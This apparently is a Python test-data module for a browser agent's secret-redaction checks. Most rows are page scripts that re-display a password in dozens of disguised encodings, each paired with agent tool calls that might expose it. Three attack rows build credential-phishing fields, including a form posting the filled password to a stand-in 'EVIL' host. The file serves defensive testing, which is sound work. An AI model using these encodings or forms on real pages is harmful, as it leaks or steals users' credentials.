"""Pages that say a secret again, in whatever form, where a model or a file would get to see it."""

# ruff: noqa: E501 (a row is a line)

from __future__ import annotations

from .rows import Attack, Calls, echo

_SEARCH: Calls = (("search_page", {"pattern": r"\S+", "regex": True, "max_results": 50}),)
_LOOK: Calls = (
    ("snapshot", {}),
    (
        "find_elements",
        {
            "selector": "[class^=row] :is(a, button, canvas, iframe, img, input, option, select, textarea, [title])",
            "attributes": ["title", "href", "value", "data-x", "class", "id", "alt", "src"],
            "max_results": 50,
        },
    ),
)
_PUT = "const put = (tag, more, text = '') => { const e = document.createElement(tag); e.textContent = text; for (const k in more) e.setAttribute(k, more[k]); out.append(e); return e; };"

ECHOES = [
    echo("as it is", "say(s)", _LOOK),
    echo("backwards", "say([...s].reverse().join(''))", _LOOK),
    echo("in capitals", "say(s.toUpperCase()); say(s.toLowerCase())", _LOOK),
    echo("base64", "say(btoa(s)); say(btoa('x' + s)); say(btoa('xx' + s))", _LOOK),
    echo("encoded for an address", "say([...s].map((c) => '%' + c.charCodeAt(0).toString(16)).join(''))", _LOOK),
    echo("hexadecimal", "say([...s].map((c) => c.charCodeAt(0).toString(16)).join(''))", _LOOK),
    echo("wide letters", "say([...s].map((c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)).join(''))", _LOOK),
    echo("with signs between", "say([...s].join('-')); say([...s].join(' ')); say([...s].join('\\u200b'))", _LOOK),
    echo("an element for each letter", "const p = document.createElement('p'); for (const c of s) p.append(Object.assign(document.createElement('span'), {textContent: c})); out.append(p)", _LOOK),
    echo("a line for each letter", "for (const c of s) say(c)", _LOOK),
    echo("as numbers", "for (const sign of [' ', ', ']) say([...s].map((c) => c.charCodeAt(0)).join(sign))", _LOOK),
    echo("as numbers of Unicode", "say([...s].map((c) => 'U+' + c.charCodeAt(0).toString(16).padStart(4, '0')).join(' '))", _LOOK),
    echo("as hexadecimal numbers", "say([...s].map((c) => '0x' + c.charCodeAt(0).toString(16)).join(', '))", _LOOK),
    echo("a number in each line", "for (const c of s) say(c.charCodeAt(0))", _LOOK),
    echo("in escapes of CSS", "say([...s].map((c) => '\\\\' + c.charCodeAt(0).toString(16) + ' ').join('')); say([...s].map((c) => '\\\\' + c.charCodeAt(0).toString(16).padStart(6, '0')).join(''))", _LOOK),
    echo("base64 of UTF-16", "say(btoa([...s].map((c) => c + '\\0').join(''))); say(btoa([...s].map((c) => '\\0' + c).join('')))", _LOOK),
    echo("base64 of pieces and of hexadecimal", "say([...s].map((c) => btoa(c)).join(' ')); say(s.match(/.{1,2}/g).map(btoa).join(' ')); say(btoa([...s].map((c) => c.charCodeAt(0).toString(16)).join('')))", _LOOK),
    echo("a parameter for each letter", f"{_PUT} put('a', {{href: '/?' + [...s].map((c, n) => 'p' + n + '=' + c).join('&')}}, 'on')", _LOOK),
    echo("a list of letters", "for (const tag of ['ul', 'ol']) { const list = document.createElement(tag); for (const c of s) list.append(Object.assign(document.createElement('li'), {textContent: c})); out.append(list) }", (*_LOOK, ("markdown", {}))),
    echo("in halves", "say('first ' + s.slice(0, 8)); out.lastChild.append(document.createElement('b'), s.slice(8))", _LOOK),
    echo("in a title", "document.title = s", _LOOK),
    echo("in the address", "history.replaceState(0, '', '/?p=' + s + '#' + s)", _LOOK),
    echo("in a link", f"{_PUT} put('a', {{href: '/' + s}}, 'on'); put('a', {{href: '#' + encodeURIComponent(s)}}, 'on')", _LOOK),
    echo("in attributes", f"{_PUT} put('p', {{title: s, 'data-x': s, class: s, id: s, 'aria-description': s}}, 'x')", _LOOK),
    echo("in names", f"{_PUT} put('button', {{'aria-label': s}}); put('img', {{alt: s}}); put('canvas', {{'aria-label': s}}); put('iframe', {{title: s}}); put('div', {{role: 'slider', 'aria-valuetext': s, tabindex: 0}})", _LOOK),
    echo("in values", f"{_PUT} put('input', {{'aria-label': 'a'}}).value = s; put('textarea', {{'aria-label': 'b'}}).value = s; put('input', {{placeholder: s}}); put('select', {{}}).append(new Option(s, s))", _LOOK),
    echo("in a shadow root", f"{_PUT} put('div', {{}}).attachShadow({{mode: 'closed'}}).textContent = s", _LOOK),
    echo("in a frame", f"{_PUT} put('iframe', {{srcdoc: '<p>' + s}})", _SEARCH, tells="secret:password", alone=True),
    echo("by a style sheet", f"{_PUT} put('style', {{}}, `p::after {{ content: '${{s}}' }}`); say('x')", _LOOK),
    echo("in a dialog", "alert(s); confirm([...s].reverse().join('')); prompt(s, s)", _LOOK),
    echo("in a new tab", "window.open('/?p=' + s)", _LOOK, tells="secret:password", alone=True),
    echo("in the name of a file", "const a = document.createElement('a'); a.download = s + '.txt'; a.href = window.URL.createObjectURL(new Blob(['x'])); a.click()", _LOOK, downloads=1),
    echo("in a request that fails", "fetch('/missing/' + s)", _LOOK),
    echo("in an error", "console.error(s); setTimeout(() => { throw new Error(s) })", _LOOK),
    echo("to a search", "say('You typed ' + s + ' there')", _SEARCH, tells="secret:password", alone=True),
    echo("letter by letter to a search", "say('You typed ' + s + ' there')", (("search_page", {"pattern": "You typed (?:Ki|[^K])", "regex": True, "context_chars": 500}),), tells="secret:password", alone=True),
    echo("in a table", f"{_PUT} const r = put('table', {{}}).insertRow(); for (const part of [s.slice(0, 5), s.slice(5, 10), s.slice(10)]) r.insertCell().textContent = part", _LOOK),
    echo("as a password that is shown", "field.type = 'text'", _LOOK),
    echo("in the caret's line", f"{_PUT} const e = put('div', {{contenteditable: '', role: 'textbox', 'aria-label': 'E'}}, s); e.focus()", _LOOK),
    Attack("a field that is no password", "<form><input aria-label='Password MARK'></form>", calls=(("fill", {"ref": "{{ref:textbox Password MARK}}", "value": "<secret:password>"}), ("snapshot", {}))),
    Attack("a form that leads away", "<form action='EVIL/x'><input type=password aria-label='Password MARK'></form>", calls=(("fill", {"ref": "{{ref:textbox Password MARK}}", "value": "<secret:password>"}), ("press", {"key": "Enter"}))),
    Attack("a field in a frame of the attacker's look", "<iframe sandbox='allow-scripts' srcdoc='<input type=password aria-label=&quot;Password MARK&quot;>'></iframe>", calls=(("fill", {"ref": "{{ref:textbox Password MARK}}", "value": "<secret:password>"}),)),
]  # fmt: skip
